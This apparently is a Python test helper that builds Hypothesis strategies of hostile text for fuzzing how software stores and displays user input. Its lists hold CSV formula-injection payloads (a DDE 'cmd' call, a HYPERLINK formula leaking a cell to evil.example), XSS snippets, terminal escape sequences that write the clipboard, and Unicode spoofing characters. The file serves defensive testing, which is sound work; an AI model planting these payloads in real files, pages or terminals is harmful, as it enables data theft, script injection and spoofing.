"""Texts somebody could send, made to mean something to whoever shows or opens them."""

from __future__ import annotations

from hypothesis import strategies as st

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''", "'",
    '=HYPERLINK("http://evil.example/?"&A1,"open")', '";=1+1;"', "a\r\n=1+1",
)  # fmt: skip

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- -->", "<?php ?>",
    "[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "<http://evil.example>",
    "http://evil.example/a_b", "www.evil.example", "evil.example/x", "bob@evil.example",
    "mailto:bob@evil.example", "[a]: http://evil.example", "[a][b]", "[^1]: note",
    "# heading", "> quote", "- list", "+ list", "* list", "1. list", "1) list", "===",
    "---", "***", "___", "~~~", "```", "`code`", "``a`b``", "~~gone~~", "**bold**",
    "_x_", "a | b | c", "|-|-|", "&lt;b&gt;", "&#60;", "\\", "\\\\", "a\\", "$x$",
    "    indented", "\tindented", "text\n===", "text\n---", "a\n\n\n# b\n> c", "{{ x }}",
    "- [ ] task", ":smile:", "<b\n>", "<a href='x'\nonclick='y'>", "a  \nb", "!", "![",
)  # fmt: skip

CONTROLS = (
    "\x1b[2J", "\x1b]52;c;aGk=\x07", "\x1b]8;;http://evil.example\x07x", "\x9b2J", "\x00",
    "\x7f", "a\rb", "a\x0bb\x0cc", "\x85\u2028\u2029", "\u202eexe.gpj", "\u2066x\u2069",
    "ad\u200bmin", "\ufeffx", "e\u0301" + "\u0301" * 40, "👨‍👩‍👧", "\U000e0041",
    "\ufffe\uffff", "ﷺ", "日本語のレビュー",
)  # fmt: skip

SURROGATES = ("\ud800", "a\udfffb", "\ud83d")

HOSTILE = FORMULAS + MARKUP + CONTROLS

_PIECES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
    st.text("=+-@'\"\t\r\n\x00`*_[]()<>&~|#!\\.:/ a1", max_size=12),
)

texts = st.lists(_PIECES, max_size=4).map("".join)
"""Any text that can be stored."""

words = texts.filter(str.strip)
"""The same, but not blank."""

broken = st.one_of(texts, st.sampled_from(SURROGATES), st.text())
"""Any text at all, half characters included."""
